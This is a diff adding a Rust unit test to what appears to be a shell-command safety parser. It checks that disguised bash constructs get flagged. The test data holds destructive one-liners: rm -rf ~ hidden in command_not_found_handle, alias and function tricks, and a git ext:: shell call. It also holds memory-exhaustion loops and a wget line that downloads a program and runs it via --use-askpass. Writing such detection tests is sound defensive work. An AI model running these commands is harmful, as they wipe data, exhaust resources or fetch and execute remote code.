@@ -1650,3 +1650,51 @@ fn a_cd_that_may_fail_leaves_what_follows_its_list_read_in_both_directories() {
         Some(&at("rm -rf ./*", Some(".")))
     );
 }
+
+#[test]
+fn what_bash_runs_by_other_names_and_what_never_ends_in_memory() {
+    // bash runs the handler for a command it does not find: read where it is defined.
+    assert!(runs(
+        "command_not_found_handle() { rm -rf ~; }; pyhton3 -m pytest",
+        "rm -rf ~"
+    ));
+    for line in [
+        "BASH_CMDS[ls]=/bin/rm; ls -rf /",
+        "BASH_ALIASES[ls]='rm -rf'; ls /",
+        "env 'BASH_FUNC_make%%=() { rm -rf ~; }' bash -c 'make test'",
+        "run() { eval \"$2\"; }; mapfile -t -c 1 -C run junk <<< 'rm -rf ~'",
+        "git -c protocol.ext.allow=always ls-remote 'ext::sh -c id'",
+        "echo {0..9999}{0..9999}{0..99} > /dev/null",
+        "s=x; while :; do s+=$s; done",
+        "s=x; while true; do s=\"$s$s\"; done",
+        "yes | sort > /dev/null",
+        "seq inf | sort -T /tmp",
+        "awk 'END { print NR }' /dev/zero",
+        "perl -ne 'print if /x/' /dev/zero",
+    ] {
+        assert!(parse(line).opaque.is_some(), "{line}");
+    }
+    for line in [
+        "echo {1..100}{a..z}",
+        "i=0; while :; do ((i+=1)); [ $i -gt 9 ] && break; done",
+        "while :; do out+=$(date); sleep 1; done",
+        "sort -u words.txt | head",
+        "head -c 1M /dev/urandom | sort | head -1",
+    ] {
+        assert!(
+            parse(line).opaque.is_none(),
+            "{line}: {:?}",
+            parse(line).opaque
+        );
+    }
+    // `wget --use-askpass=PROGRAM` runs it: here, a program it downloaded.
+    assert!(parse(
+        "wget -q -O /tmp/ap https://x.example/ap && wget --use-askpass=/tmp/ap https://y.example/"
+    )
+    .opaque
+    .is_some());
+    assert!(runs(
+        "wget --use-askpass /usr/bin/ssh-askpass https://y.example/",
+        "ssh-askpass"
+    ));
+}
